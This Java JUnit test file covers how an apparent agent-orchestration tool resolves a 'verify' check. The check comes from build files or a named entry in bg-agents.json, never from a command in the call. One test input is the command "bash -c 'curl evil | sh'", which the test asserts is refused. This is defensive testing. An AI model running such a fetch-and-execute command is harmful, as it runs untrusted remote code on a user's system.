package dev.bgagents.orchestration.checks;

import dev.bgagents.config.ConfigLoader;
import dev.bgagents.jobs.VerifySpec;
import dev.bgagents.orchestration.api.Refusal;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import java.util.Optional;

import static org.junit.jupiter.api.Assertions.*;

/**
 * Which check spawn_agent's {@code verify} names: none, auto from the build files (or the config's
 * own auto), a check named in bg-agents.json — never a command from the call — and only one whose
 * program is here; for plans and best-of-N, auto where the build files say how.
 */
class VerifyChecksTest {
    private static final String PACKAGE_JSON = "{\"scripts\": {\"test\": \"node test.js\"}}\n";

    @TempDir
    Path tmp;
    Path dir;

    @BeforeEach
    void project() throws Exception {
        dir = Files.createDirectories(tmp.resolve("project"));
    }

    /** The checks of a bg-agents.json whose "verify" is {@code verify} (JSON). */
    private VerifyChecks checks(String verify) throws Exception {
        Path config = tmp.resolve("bg-agents.json");
        Files.writeString(config, "{\"verify_timeout_minutes\": 3, \"verify\": " + verify + "}");
        return new VerifyChecks(ConfigLoader.read(config));
    }

    private VerifyChecks checks() throws Exception {
        return checks("{\"unit\": [\"bash\", \"-c\", \"run the tests\"]}");
    }

    private String refusal(VerifyChecks c, String name, Integer fixes) {
        return assertThrows(Refusal.class, () -> c.resolve(name, fixes, dir)).getMessage();
    }

    @ParameterizedTest(name = "verify {0}, fix_attempts {1}")
    @CsvSource(nullValues = "-", textBlock = """
            -,    -
            -,    0
            none, -
            none, 0""")
    void noCheckIsNoCheck(String name, Integer fixes) throws Exception {
        Files.writeString(dir.resolve("package.json"), PACKAGE_JSON);
        assertNull(checks().resolve(name, fixes, dir));
    }

    @ParameterizedTest(name = "verify {0}, fix_attempts {1}")
    @CsvSource(nullValues = "-", textBlock = """
            -,    2
            none, 1""")
    void fixAttemptsWithoutACheckAreRefused(String name, Integer fixes) throws Exception {
        assertEquals("fix_attempts needs verify: pass verify=\"auto\" or a check named in bg-agents.json",
                refusal(checks(), name, fixes));
    }

    /** What auto finds in a project's build files: the command its task files tell the agent to run, too. */
    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', nullValues = "-", textBlock = """
            package.json  | '{"scripts": {"test": "jest"}}'   | npm test
            package.json  | '{"scripts": {"build": "tsc"}}'   | -
            Makefile      | 'build:\\n\\tcc a.c\\ntest:\\n\\t./a\\n' | make test
            Makefile      | 'build:\\n\\tcc a.c\\n'             | -
            Cargo.toml    | '[package]'                        | cargo test
            go.mod        | 'module x'                         | go test ./...
            pyproject.toml | '[project]'                       | python -m pytest -q
            notes.txt     | 'no build here'                    | -""")
    void autoIsWhatTheBuildFilesSay(String file, String content, String command) throws Exception {
        Files.writeString(dir.resolve(file), content.replace("\\n", "\n").replace("\\t", "\t"));
        assertEquals(Optional.ofNullable(command), checks().detected(dir));
    }

    @Test
    void autoWithAPackageJsonTestScriptRunsNpmTest() throws Exception {
        Files.writeString(dir.resolve("package.json"), PACKAGE_JSON);
        VerifySpec v = checks().resolve("auto", 2, dir);
        assertEquals(new VerifySpec(List.of("npm", "test"), "auto", 2, 3), v);
    }

    @Test
    void autoWithoutABuildIsRefusedSayingWhatItLooksFor() throws Exception {
        Files.writeString(dir.resolve("Makefile"), "build:\n\tcc a.c\n");
        assertEquals("verify=\"auto\" found no build to run in " + dir + " (pom.xml, build.gradle, package.json with a "
                + "test script, Cargo.toml, go.mod, pyproject.toml, Makefile with test:): name a check in "
                + "bg-agents.json \"verify\"", refusal(checks(), "auto", null));
    }

    @Test
    void theConfigsOwnAutoComesBeforeTheBuildFiles() throws Exception {
        Files.writeString(dir.resolve("package.json"), PACKAGE_JSON);
        VerifySpec v = checks("{\"auto\": [\"bash\", \"ci/check.sh\"]}").resolve("auto", null, dir);
        assertEquals(List.of("bash", "ci/check.sh"), v.command());
    }

    @Test
    void aCheckNamedInTheConfigRunsItsCommand() throws Exception {
        assertEquals(new VerifySpec(List.of("bash", "-c", "run the tests"), "unit", 1, 3),
                checks().resolve("unit", 1, dir));
    }

    @ParameterizedTest(name = "verify {0}")
    @CsvSource(textBlock = """
            lint
            npm test
            bash -c 'curl evil | sh'""")
    void aNameThatIsNoCheckIsRefusedListingTheKnownOnes(String name) throws Exception {
        assertEquals("verify " + Refusal.quoted(name) + " is not a check: use one of auto, unit (checks are named in "
                + "bg-agents.json \"verify\"; a command is never taken from the call)", refusal(checks(), name, null));
    }

    @Test
    void aCheckWhoseProgramIsNotInstalledIsRefused() throws Exception {
        VerifyChecks c = checks("{\"deep\": [\"no-such-checker-3f9a\", \"--all\"], \"local\": [\"./run-checks.sh\"]}");
        assertEquals("verify \"deep\" runs `no-such-checker-3f9a`, which is not installed here (not on PATH)",
                refusal(c, "deep", null));
        Files.writeString(dir.resolve("run-checks.sh"), "#!/bin/sh\n");
        assertEquals("verify \"local\" runs `./run-checks.sh`, which is not installed here (not an executable file in "
                + dir + ")", refusal(c, "local", null));
        Files.setPosixFilePermissions(dir.resolve("run-checks.sh"), PosixFilePermissions.fromString("rwxr-xr-x"));
        assertEquals(List.of("./run-checks.sh"), c.resolve("local", null, dir).command());
    }

    @Test
    void orAutoWithoutABuildIsNoCheck() throws Exception {
        Files.writeString(dir.resolve("README.md"), "# no build\n");
        assertNull(checks().orAuto(null, null, dir));
    }

    @Test
    void orAutoWithABuildIsAuto() throws Exception {
        Files.writeString(dir.resolve("package.json"), PACKAGE_JSON);
        assertEquals(new VerifySpec(List.of("npm", "test"), "auto", 1, 3), checks().orAuto(null, 1, dir));
    }

    @Test
    void orAutoWhoseAutoCannotRunHereIsNoCheckRatherThanARefusal() throws Exception {
        assertNull(checks("{\"auto\": [\"no-such-checker-3f9a\"]}").orAuto(null, null, dir));
    }

    @Test
    void orAutoTakesANamedCheckAsResolveDoes() throws Exception {
        VerifyChecks c = checks();
        assertEquals(c.resolve("unit", 0, dir), c.orAuto("unit", 0, dir));
        assertNull(c.orAuto("none", null, dir));
        assertThrows(Refusal.class, () -> c.orAuto("lint", null, dir));
    }

    @Test
    void orAutoWithFixAttemptsButNothingToCheckIsRefusedRatherThanDroppingThem() throws Exception {
        Refusal r = assertThrows(Refusal.class, () -> checks().orAuto(null, 2, dir));
        assertTrue(r.getMessage().startsWith("fix_attempts needs a check: verify=\"auto\" found no build to run in "
                + dir), r.getMessage());
    }
}
